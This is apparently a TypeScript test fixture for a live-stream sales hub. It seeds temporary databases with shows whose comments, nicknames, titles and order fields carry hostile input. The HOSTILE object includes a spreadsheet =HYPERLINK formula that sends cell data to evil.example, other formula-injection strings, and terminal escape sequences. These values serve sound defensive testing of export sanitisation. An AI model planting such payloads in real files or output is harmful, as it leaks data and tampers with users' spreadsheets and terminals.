/**
 * Studio databases for the output side of the hostile-input suite and `npm run bench -- hostile`,
 * written before the hub starts: a big ended show (exports, windows), a small ended show whose public
 * words are hostile (formulas, escapes, one unbroken 3,000-character nickname), and an auto-show that
 * opened in 1970 from one bad timestamp (a whole-show recap of it would be 56 years of minutes).
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { LiveEvent } from '../../server/protocol/index.js';
import { createRepository, openDb } from '../../server/store/index.js';
import { makeRecording, readRecording, storedOrder } from '../support/recording.js';

export const MINUTE = 60_000;
export const HOUR = 60 * MINUTE;

/** Words from the public that a spreadsheet would run, and a terminal would obey. */
export const HOSTILE = {
  promoter: '=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")',
  buyer: '@SUM(1+1)',
  nick: '-2+3 主播看我',
  tabbed: '\t=1+1',
  title: '双11专场\u001b]0;pwned\u0007\u001b[2J',
  long: 'W'.repeat(3000),
};

export interface StudioShows {
  dir: string;
  dbFile: string;
  big: { id: number; startedAt: number; endedAt: number };
  small: { id: number; startedAt: number; endedAt: number };
  ancient: { id: number; endedAt: number };
  remove(): void;
}

/** Writes the shows into a fresh database; `bigLines` sizes the big show (recording lines). */
export function writeStudioShows(bigLines: number): StudioShows {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'livedeck-hostile-'));
  const dbFile = path.join(dir, 'studio.db');
  const repo = createRepository(openDb(dbFile));
  const now = Date.now();

  // The big show: two hours, three days ago (its late refunds land days after it, as real ones do).
  const bigStart = now - 3 * 24 * HOUR;
  const { header, events } = readRecording(makeRecording({ seed: 19, lines: bigLines, duplicateRate: 0, startedAt: bigStart, title: '大场 big show' }));
  const bigEnd = header!.endedAt!;
  const bigId = repo.createSession(header!.title!, header!.startedAt!, { endedAt: bigEnd });
  const sorted = storedOrder(events);
  for (let i = 0; i < sorted.length; i += 20_000) repo.transaction(() => sorted.slice(i, i + 20_000).forEach((e) => repo.insertEvent(bigId, e)));

  // The small show: an hour, yesterday, with hostile words in every text a CSV carries.
  const smallStart = now - 24 * HOUR;
  const smallEnd = smallStart + HOUR;
  const smallId = repo.createSession(HOSTILE.title, smallStart, { endedAt: smallEnd });
  const at = (min: number) => smallStart + min * MINUTE;
  const small: LiveEvent[] = [
    { type: 'item.live', platform: 'studio', id: 'h-i1', ts: at(0), sku: 'LIP-01' },
    { type: 'viewer.snapshot', platform: 'douyin', id: 'h-s1', ts: at(0), online: 120 },
    { type: 'viewer.enter', platform: 'douyin', id: 'h-e1', ts: at(1), userId: HOSTILE.buyer },
    { type: 'viewer.enter', platform: 'douyin', id: 'h-e2', ts: at(1), userId: 'asker' },
    { type: 'comment', platform: 'douyin', id: 'h-c1', ts: at(2), userId: 'asker', nick: HOSTILE.nick, text: `${HOSTILE.tabbed} 这个口红多少钱？` },
    { type: 'comment', platform: 'douyin', id: 'h-c2', ts: at(3), userId: 'long', nick: HOSTILE.long, text: `${HOSTILE.long} 有没有链接？` },
    { type: 'product.click', platform: 'douyin', id: 'h-k1', ts: at(3), userId: 'asker', sku: 'LIP-01' },
    { type: 'order', platform: 'douyin', id: 'h-o1', ts: at(5), orderId: 'h-o1', userId: HOSTILE.buyer, sku: 'LIP-01', qty: 2, amountFen: 31_800, status: 'paid', promoter: HOSTILE.promoter },
    { type: 'order', platform: 'douyin', id: 'h-o2', ts: at(10), orderId: 'h-o2', userId: 'b2', sku: 'LIP-01', qty: 1, amountFen: 15_900, status: 'paid' },
  ];
  repo.transaction(() => small.forEach((e) => repo.insertEvent(smallId, e)));

  // The 1970 show: an auto-show opened by one event stamped 0, closed a day ago.
  const ancientEnd = now - 2 * 24 * HOUR;
  const ancientId = repo.createSession('自动场次', 0, { auto: true, endedAt: ancientEnd });
  repo.transaction(() => {
    repo.insertEvent(ancientId, { type: 'comment', platform: 'douyin', id: 'a-c0', ts: 0, userId: 'x', nick: 'x', text: '1970' });
    repo.insertEvent(ancientId, {
      type: 'order',
      platform: 'douyin',
      id: 'a-o1',
      ts: ancientEnd - 30 * MINUTE,
      orderId: 'a-o1',
      userId: 'y',
      sku: 'LIP-01',
      qty: 1,
      amountFen: 15_900,
      status: 'paid',
    });
  });
  repo.db.close();

  return {
    dir,
    dbFile,
    big: { id: bigId, startedAt: header!.startedAt!, endedAt: bigEnd },
    small: { id: smallId, startedAt: smallStart, endedAt: smallEnd },
    ancient: { id: ancientId, endedAt: ancientEnd },
    remove: () => fs.rmSync(dir, { recursive: true, force: true }),
  };
}
